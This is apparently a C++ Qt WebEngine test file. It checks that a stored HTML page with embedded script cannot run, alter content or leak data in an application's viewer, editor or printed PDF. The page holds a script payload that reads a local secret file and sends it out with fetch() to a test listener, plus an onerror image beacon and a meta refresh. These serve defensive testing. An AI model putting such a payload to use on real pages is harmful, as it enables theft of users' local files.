// Real web-engine test, marked by its suite name (StoredPageScriptRealEngineTest): a stored page that came
// from outside tries to read a local file into itself, to send it to a listener on this machine and to
// move the view to that file. Nothing of it runs and nothing reaches the listener, in the viewer, the
// editor and the printed book.
#include <gtest/gtest.h>
#include <QBuffer>
#include <QJsonDocument>
#include <QPdfDocument>
#include <QPdfSelection>
#include <QPrinter>
#include <QTcpServer>
#include <QTcpSocket>
#include <QWebEngineView>

#include "dsptree_fixture.h"
#include "mainwin/forms/html_edit_view.h"
#include "mainwin/forms/page_print_preview.h"
#include "mainwin/forms/pdf_part_printer.h"
#include "platform/bookdir.h"
#include "print/print_zp.h"
#include "real_engine.h"

namespace {

using real_engine::RunScript;
using real_engine::WaitFor;

constexpr char kSecret[] = "SECRET-4711";

class StoredPageScriptRealEngineTest : public DsptreeFixture {
protected:
    void SetUp() override {
        if (const QString why = real_engine::Prepare(); !why.isEmpty()) GTEST_SKIP() << why.toStdString();
        DsptreeFixture::SetUp();
        PageViewer::SetEngineEnabled(true);
        ASSERT_TRUE(listener_.listen(QHostAddress::LocalHost));
        QObject::connect(&listener_, &QTcpServer::newConnection, [this] {
            while (QTcpSocket* socket = listener_.nextPendingConnection()) {
                ++heard_;
                socket->close();
            }
        });
        const QString secret = GetAppPath() + QStringLiteral("secret.txt");
        QFile file(secret);
        ASSERT_TRUE(file.open(QIODevice::WriteOnly));
        file.write(kSecret);
        file.close();
        const QString listener = QStringLiteral("http://127.0.0.1:%1/").arg(listener_.serverPort());
        const QString local = QUrl::fromLocalFile(secret).toString();
        QString page = QStringLiteral(
                           "<html><head><title>原题</title>"
                           "<meta http-equiv='refresh' content='0;url=%2'>"

                           "<link rel='stylesheet' href='%1style.css'></head>"
                           "<body><p id='shown'>his life</p><img src='%1picture.png'>"
                           "<script>"
                           "document.title = 'ran';"
                           "document.getElementById('shown').textContent = 'altered';"
                           "var x = new XMLHttpRequest(); x.open('GET', '%2', false); x.send();"
                           "var p = document.createElement('pre'); p.id = 'stolen';"
                           "p.textContent = x.responseText; document.body.appendChild(p);"
                           "fetch('%1?' + encodeURIComponent(x.responseText));"
                           "</script>"
                           "<img src='missing.png' onerror=\"document.title = 'ran';"
                           " new Image().src = '%1onerror';\"></body></html>")
                           .arg(listener, local);
        Add(QStringLiteral("甲"), QString());
        Add(QStringLiteral("乙"), QStringLiteral("甲"));
        ops_->SaveAnyHtml(page, QStringLiteral("甲"));
    }

    // The page as the engine holds it, seen from the program's own world.
    static QString Seen(QWebEngineView* view) {
        return RunScript(view, QStringLiteral("document.title + '|' + "
                                              "(document.getElementById('shown') || {}).textContent + '|' + "
                                              "!!document.getElementById('stolen') + '|' + "
                                              "document.documentElement.outerHTML.indexOf('%1')")
                                   .arg(QLatin1String(kSecret)))
            .toString();
    }
    // Long enough for a script's requests, and a refresh, to have come.
    static void Linger() {
        WaitFor([] { return false; }, 1500);
    }

    QTcpServer listener_;
    int heard_ = 0;
};

// The page as the view shows it: title and text as stored, nothing added, the secret nowhere.
const QString kUntouched = QStringLiteral("原题|his life|false|-1");

TEST_F(StoredPageScriptRealEngineTest, NothingRunsOrLeavesInTheViewerTheEditorAndThePrint) {
    dsptree& w = Open();
    w.SetDocumentLoaded(false);
    Click(QStringLiteral("甲"));
    ASSERT_TRUE(WaitFor([&] { return w.DocumentLoaded(); }));
    QWebEngineView* viewer = w.WebBrowser1()->view();
    ASSERT_TRUE(WaitFor([&] {
        return RunScript(viewer, QStringLiteral("document.readyState")) == QStringLiteral("complete");
    }));
    Linger();
    EXPECT_EQ(Seen(viewer), kUntouched) << "viewer";
    EXPECT_EQ(viewer->url(), QUrl::fromLocalFile(GetAppPath() + QStringLiteral("ltmp.htm")));
    EXPECT_EQ(heard_, 0) << "viewer";

    w.SetDocumentLoaded(false);
    w.SetEditMode(true);
    w.EditButton_Click();
    QWebEngineView* editor = w.Editor()->view();
    ASSERT_TRUE(WaitFor([&] { return w.DocumentLoaded(); }));
    ASSERT_TRUE(WaitFor(
        [&] { return RunScript(editor, QStringLiteral("document.designMode")) == QStringLiteral("on"); }));
    Linger();
    EXPECT_EQ(Seen(editor), kUntouched) << "editor";
    EXPECT_FALSE(w.Editor()->DocumentHTML().contains(QLatin1String(kSecret)));
    EXPECT_EQ(heard_, 0) << "editor";

    clsPrintZp printer;
    ASSERT_TRUE(printer.打印文档(QStringLiteral("甲"), 0));
    QPrinter a4(QPrinter::HighResolution);
    a4.setPageSize(QPageSize(QPageSize::A4));
    const pdf_part_printer::Result printed = pdf_part_printer::Print(
        printer.BookParts(), PdfLayoutFor(a4), [](const pdf_part_printer::Progress&) { return true; },
        120000);
    ASSERT_EQ(printed.outcome, pdf_part_printer::Outcome::Done);
    QString text;
    for (const pdf_book::Part& part : printed.parts) {
        QByteArray bytes = part.pdf;
        QBuffer buffer(&bytes);
        buffer.open(QIODevice::ReadOnly);
        QPdfDocument document;
        document.load(&buffer);
        for (int page = part.firstPage; page < document.pageCount(); ++page)
            text += document.getAllText(page).text();
    }
    EXPECT_TRUE(text.contains(QStringLiteral("his life"))) << text.toStdString();
    EXPECT_FALSE(text.contains(QStringLiteral("altered")));
    EXPECT_FALSE(text.contains(QLatin1String(kSecret)));
    Linger();
    EXPECT_EQ(heard_, 0) << "print";
}

}  // namespace
